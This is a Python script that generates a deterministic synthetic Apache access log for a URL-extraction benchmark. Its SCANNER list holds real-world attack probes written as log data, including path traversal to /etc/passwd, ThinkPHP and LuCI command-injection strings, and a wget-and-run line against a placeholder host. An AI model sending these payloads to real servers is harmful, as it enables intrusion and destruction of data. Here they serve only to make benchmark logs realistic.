#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Generate a large synthetic Apache access log for the extraction benchmark.

    python3 bench/gen_log.py [--seed 20240301] [--size 100000000]
                             [--data data] [--web FILE]... OUT

Deterministic: the same inputs, seed and size give the same bytes (only
random.Random.random() is used, whose sequence Python keeps stable).

Format: Apache "combined",
    %h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-agent}i"
with Apache's escaping inside the quoted fields ('"' and '\\' backslashed,
other bytes outside 0x20..0x7e as \\xHH).

Where the fields come from (the repository's data/, see data/README.md;
each list read as NAME or NAME.gz; --web adds URL lists to the kasztp URLs,
e.g. the userbait list that data/ leaves out for want of a licence):
  client      addresses from the documentation ranges (192.0.2.0/24,
              198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32): no real client
  time        a clock starting 2024-03-01 advancing 0-2 s per line
  request     method: GET 90%, POST 6%, HEAD 3%, OPTIONS 1%; target:
                35% a request-target of the real log (urls/apache_log_targets.txt)
                22% a kasztp (or --web) URL reduced to path?query
                15% a Node.js source path (urls/node_files.txt)
                 8% a redirect endpoint carrying a percent-encoded real URL
                 3% a vulnerability-scanner request (fixed list below)
                 1% CONNECT host:443 (a proxy log)
                 rest, 16%: proxy absolute-form, a whole kasztp (or --web) URL
              protocol: HTTP/1.1 85%, HTTP/1.0 10%, HTTP/2.0 5%
  status      200 70%, 304 10%, 404 8%, 301 5%, 302 4%, 500 2%, 403 1%
  size        "-" for 304, else 0..200000
  referer     "-" 40%; a real referer of the real log 30%; a kasztp (or
              --web) URL 25%; this site's own URL 5%
  user agent  drawn from the real log's lines, so with its frequencies
              (crawler UAs carry URLs: "+http://www.google.com/bot.html")
"""

import argparse
import gzip
import os
import re
import sys
import urllib.parse

import random

SCANNER = [
    "/wp-login.php",
    "/xmlrpc.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/cgi-bin/test-cgi",
    "/admin/config.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)",
    "/?XDEBUG_SESSION_START=phpstorm",
    "/solr/admin/info/system?wt=json",
    "/api/jsonws/invoke",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x.sh;sh+x.sh",
    "/HNAP1/",
    "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
]

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep",
          "Oct", "Nov", "Dec"]
DAYS_IN = [31, 29, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31]  # 2024


def read_lines(path):
    """The non-empty lines of path, or of path.gz when only that exists."""
    if not os.path.exists(path) and os.path.exists(path + ".gz"):
        with gzip.open(path + ".gz", "rb") as f:
            data = f.read()
    else:
        with open(path, "rb") as f:
            data = f.read()
    return [l for l in data.split(b"\n") if l]


def log_user_agents(path):
    """The last quoted field of every complete combined-format line."""
    out = []
    for line in read_lines(path):
        m = re.match(rb'^.*" [0-9]{3} (?:[0-9]+|-) "(?:[^"\\]|\\.)*" "((?:[^"\\]|\\.)*)"$',
                     line)
        if m:
            out.append(m.group(1))  # already in Apache's escaped form
    return out


_ESC = {}
for _b in range(256):
    if _b == 0x22:
        _ESC[_b] = b'\\"'
    elif _b == 0x5C:
        _ESC[_b] = b"\\\\"
    elif 0x20 <= _b < 0x7F:
        _ESC[_b] = bytes([_b])
    else:
        _ESC[_b] = b"\\x%02x" % _b


def apache_escape(b):
    if all(0x20 <= c < 0x7F and c not in (0x22, 0x5C) for c in b):
        return b
    return b"".join(_ESC[c] for c in b)


def path_query(url):
    """scheme://authority/path?query#frag -> /path?query"""
    i = url.find(b"://")
    rest = url[i + 3:] if i >= 0 else url
    j = min([k for k in (rest.find(b"/"), rest.find(b"?")) if k >= 0],
            default=len(rest))
    pq = rest[j:].split(b"#", 1)[0]
    if not pq.startswith(b"/"):
        pq = b"/" + pq
    return pq.replace(b" ", b"%20")


class Gen:
    def __init__(self, seed, data, web=()):
        self.r = random.Random(seed)
        u = os.path.join(data, "urls")
        self.targets = read_lines(os.path.join(u, "apache_log_targets.txt"))
        self.referers = read_lines(os.path.join(u, "apache_log_referers.txt"))
        self.web = read_lines(os.path.join(u, "kasztp.txt"))
        for path in web:
            self.web += read_lines(path)
        self.node = read_lines(os.path.join(u, "node_files.txt"))
        self.uas = log_user_agents(
            os.path.join(data, "logs", "elastic_apache_logs.log"))
        if not (self.targets and self.referers and self.web and self.node
                and self.uas):
            raise SystemExit("gen_log.py: an input list is empty")
        self.t = 0  # seconds since 2024-03-01 00:00:00

    def rnd(self):
        return self.r.random()

    def pick(self, seq):
        return seq[int(self.rnd() * len(seq))]

    def weighted(self, table):
        x = self.rnd() * sum(w for _, w in table)
        for v, w in table:
            x -= w
            if x < 0:
                return v
        return table[-1][0]

    def client(self):
        x = self.rnd()
        if x < 0.9:
            net = self.pick([b"192.0.2", b"198.51.100", b"203.0.113"])
            return b"%s.%d" % (net, 1 + int(self.rnd() * 254))
        return b"2001:db8:%x::%x" % (int(self.rnd() * 65536),
                                      1 + int(self.rnd() * 65535))

    def when(self):
        self.t += int(self.rnd() * 3)
        day, sec = divmod(self.t, 86400)
        month = 2  # March (0-based)
        while day >= DAYS_IN[month]:
            day -= DAYS_IN[month]
            month = (month + 1) % 12
        return b"[%02d/%s/2024:%02d:%02d:%02d +0000]" % (
            day + 1, MONTHS[month].encode(), sec // 3600, sec // 60 % 60,
            sec % 60)

    def target(self):
        x = self.rnd()
        if x < 0.35:
            return b"GET", self.pick(self.targets)
        if x < 0.57:
            return None, path_query(self.pick(self.web))
        if x < 0.72:
            p = self.pick(self.node)
            if p.startswith(b"file://"):
                p = p[len(b"file://"):]
            return None, b"/" + p
        if x < 0.80:
            url = urllib.parse.quote_from_bytes(self.pick(self.web), safe=b"")
            ep = self.pick([b"/redirect?url=", b"/out?to=",
                            b"/login?next=", b"/r.php?u="])
            return b"GET", ep + url.encode()
        if x < 0.83:
            return None, self.pick(SCANNER).encode()
        if x < 0.84:
            u = self.pick(self.web)
            host = u.split(b"://", 1)[-1].split(b"/", 1)[0].split(b"?", 1)[0]
            return b"CONNECT", host.replace(b" ", b"") + b":443"
        return b"GET", self.pick(self.web).replace(b" ", b"%20")

    def line(self):
        method, tgt = self.target()
        if method is None:
            method = self.weighted([(b"GET", 90), (b"POST", 6), (b"HEAD", 3),
                                    (b"OPTIONS", 1)])
        proto = self.weighted([(b"HTTP/1.1", 85), (b"HTTP/1.0", 10),
                               (b"HTTP/2.0", 5)])
        status = self.weighted([(200, 70), (304, 10), (404, 8), (301, 5),
                                (302, 4), (500, 2), (403, 1)])
        size = b"-" if status == 304 else b"%d" % int(self.rnd() * 200000)
        x = self.rnd()
        if x < 0.40:
            ref = b"-"
        elif x < 0.70:
            ref = self.pick(self.referers)  # already escaped as logged
        elif x < 0.95:
            ref = apache_escape(self.pick(self.web))
        else:
            ref = b"https://www.example.com" + path_query(
                self.pick(self.web))
        ua = self.pick(self.uas)
        return b'%s - - %s "%s %s %s" %d %s "%s" "%s"\n' % (
            self.client(), self.when(), method, apache_escape(tgt), proto,
            status, size, ref, ua)


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("out")
    ap.add_argument("--seed", type=int, default=20240301)
    ap.add_argument("--size", type=int, default=100_000_000,
                    help="stop after the line that reaches this many bytes")
    ap.add_argument("--data", default=os.path.join(here, "..", "data"),
                    help="the directory of urls/ and logs/ (default: data/)")
    ap.add_argument("--web", action="append", default=[],
                    help="a further list of web URLs (repeatable)")
    a = ap.parse_args()
    g = Gen(a.seed, a.data, a.web)
    total = lines = 0
    tmp = a.out + ".tmp"
    with open(tmp, "wb") as f:
        buf = []
        while total < a.size:
            l = g.line()
            buf.append(l)
            total += len(l)
            lines += 1
            if len(buf) >= 4096:
                f.write(b"".join(buf))
                buf = []
        f.write(b"".join(buf))
    os.replace(tmp, a.out)
    print("gen_log.py: %s: %d lines, %d bytes (seed %d)" %
          (a.out, lines, total, a.seed), file=sys.stderr)


if __name__ == "__main__":
    main()
